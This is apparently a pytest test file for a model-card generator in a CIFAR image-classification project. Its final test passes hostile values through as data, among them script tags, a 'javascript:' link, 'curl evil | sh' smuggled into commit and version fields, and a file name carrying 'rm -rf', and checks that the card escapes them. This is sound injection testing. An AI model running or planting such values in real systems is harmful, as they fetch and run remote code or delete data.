import json
import re

import pytest
from made_run import make_run

from cifar_lightning.formatting import markdown
from cifar_lightning.report.model_card import NAME, write_model_card
from cifar_lightning.report.report import make_report

CARD = {"file": "model.onnx", "format": "onnx", "class_names": ["ant", "bee|2"], "image_size": 32, "in_channels": 3}
CARD |= {
    "epoch": 3,
    "resize": "crop",
    "checkpoint_sha256": "c0de",
    "tta": "none",
    "images": "RGB, uint8 0-255",
    "outputs": ["logits", "probs"],
}


@pytest.fixture
def run(tmp_path):
    return make_run(tmp_path / "run", names=("ant", "bee|2"), n=400)


def test_the_cards_numbers_are_the_reports(run):
    make_report(run)
    findings = json.loads(run.findings.read_text(encoding="utf-8"))
    path = write_model_card(run, CARD, run.path)
    assert path == run.path / NAME
    text = path.read_text(encoding="utf-8")
    assert f"| accuracy | {100 * findings['summary']['accuracy']:.2f} % (95 % interval" in text
    assert f"{100 * findings['calibration']['after']['ece']:.2f} %" in text
    row = findings["classes"][1]
    assert f"| bee\\|2 | {row['support']} | {100 * row['precision']:.1f} % | {100 * row['recall']:.1f} % |" in text
    for insight in findings["insights"]:
        for item in insight["items"]:
            assert markdown(item["text"]) in text
    assert "`model.onnx` takes `images`: RGB, uint8 0-255, shape (batch, 3, 32, 32)" in text
    assert "returns logits and probs, shape (batch, 2)" in text
    assert "git checkout c0ffee" in text
    assert "&" not in text  # Markdown, not HTML


def test_the_card_does_not_call_a_gap_agreement_that_few_images_leave_open(tmp_path):
    run = make_run(tmp_path / "run", names=("ant", "bee"), n=40)
    text = write_model_card(run, CARD, run.path).read_text(encoding="utf-8")
    assert "**No difference beyond chance was found between test and validation accuracy.** Test " in text
    assert "agree" not in text


def test_a_card_of_a_run_whose_test_images_were_trained_on_says_so(run):
    claim, texts = (
        "used neither to choose",
        ["5 of 9 test images are also in train", "1 of 1 test image is also in val"],
    )
    of_val = "3 of 9 val images are also in train"
    assert claim in write_model_card(run, CARD, run.path).read_text(encoding="utf-8")
    split = json.loads(run.split.read_text())
    known = {"kind": "across splits", "num_images": 5, "first": [["test/a.png", "train/a.png"]]}
    for found in ([of_val], *([of_val, text] for text in texts)):
        run.split.write_text(json.dumps(split | {"duplicates": [known | {"text": each} for each in found]}))
        card = write_model_card(run, CARD, run.path).read_text(encoding="utf-8")
        assert all(each in card for each in found)
        assert (claim in card) == (found == [of_val])


def test_one_image_is_no_1_images_on_page_terminal_and_card(tmp_path, capsys):
    run = make_run(tmp_path / "run", names=("ant", "bee"), n=2)
    make_report(run)
    texts = [capsys.readouterr().out, run.report.read_text(encoding="utf-8")]
    texts.append(write_model_card(run, CARD | {"class_names": ["ant", "bee"]}, run.path).read_text(encoding="utf-8"))
    number = re.compile(r"\b(?<![.,])1 (?:test |validation |training )?(?:images|pairs|tests|predictions|mistakes)\b")
    assert [number.findall(text) for text in texts] == [[], [], []]


def test_without_a_test_the_card_says_so(run):
    run.predictions.unlink()
    text = write_model_card(run, CARD, run.path).read_text(encoding="utf-8")
    assert "holds no test results" in text
    assert "accuracy |" not in text
    assert "smallnet with 2 classes" in text


def test_weights_alone_have_no_graph_to_describe(run):
    text = write_model_card(run, {**CARD, "file": "w.safetensors", "images": ""}, run.path).read_text(encoding="utf-8")
    assert "fit --init_weights w.safetensors" in text
    assert "takes `images`" not in text


def test_a_card_tells_of_every_file_of_the_same_weights_that_is_still_there(run):
    def written(name, **more):
        (run.path / name).touch()
        write_model_card(run, {**CARD, "file": name, **more}, run.path)
        return (run.path / NAME).read_text(encoding="utf-8")

    weights = {"format": "safetensors", "images": "", "outputs": ["logits"]}
    written("a --> b.onnx")
    for text in (written("w.safetensors", **weights), written("w.safetensors", **weights)):
        assert "tags: [image-classification, pytorch, onnx, safetensors]" in text
        assert text.count("- `a --> b.onnx` takes `images`: RGB, uint8 0-255") == 1
        assert text.count("- `w.safetensors` holds the weights") == 1
    (run.path / "a --> b.onnx").unlink()
    assert "b.onnx" not in written("w.safetensors", **weights)
    assert "w.safetensors" not in written("other.onnx", checkpoint_sha256="beef")
    card = run.path / NAME
    card.write_text(card.read_text(encoding="utf-8").replace('"files": ', '"files": 1, "x": '), encoding="utf-8")
    assert "- `third.onnx` takes" in written("third.onnx", checkpoint_sha256="beef")


def test_somebodys_own_card_is_left_alone_and_ours_is_overwritten(run):
    path = run.path / NAME
    path.write_text("# My own\n", encoding="utf-8")
    assert write_model_card(run, CARD, run.path) is None
    assert path.read_text(encoding="utf-8") == "# My own\n"
    path.unlink()
    write_model_card(run, CARD, run.path)
    assert write_model_card(run, {**CARD, "epoch": 4}, run.path) == path
    assert "epoch 4" in path.read_text(encoding="utf-8")


def test_a_card_that_somebody_edited_is_made_again(run):
    path = write_model_card(run, CARD, run.path)
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('"file": "model.onnx"', '"file": 5'), encoding="utf-8")
    assert write_model_card(run, {**CARD, "file": "other.onnx"}, run.path).read_text(encoding="utf-8") == text.replace(
        "model.onnx", "other.onnx"
    )


def test_names_and_commits_from_outside_stay_text(tmp_path):
    names = ("<script>alert(1)</script>", "a](javascript:x) `b` | c\n# d")
    run = make_run(tmp_path / "run", names=names, n=400)
    environment = json.loads(run.environment.read_text())
    environment["commit"] = "x; curl evil | sh"
    environment["versions"] = {"torch": "2.10\ncurl evil | sh"}
    run.environment.write_text(json.dumps(environment))
    card = {**CARD, "class_names": list(names), "file": "a`b; rm -rf x.safetensors", "images": ""}
    text = write_model_card(run, card, run.path).read_text(encoding="utf-8")
    body = text.partition("-->")[2]
    assert r"\<script>" in body
    assert body.count("<script>") == body.count(r"\<script>")
    assert "](javascript:" not in body.replace(r"\](javascript:", "")
    assert "\n# d" not in body
    assert "``cifar-lightning fit --init_weights 'a`b; rm -rf x.safetensors'``" in body
    lines = body.rpartition("## Training")[2].splitlines()
    assert not any(line.startswith(("curl", "git checkout x")) for line in lines)
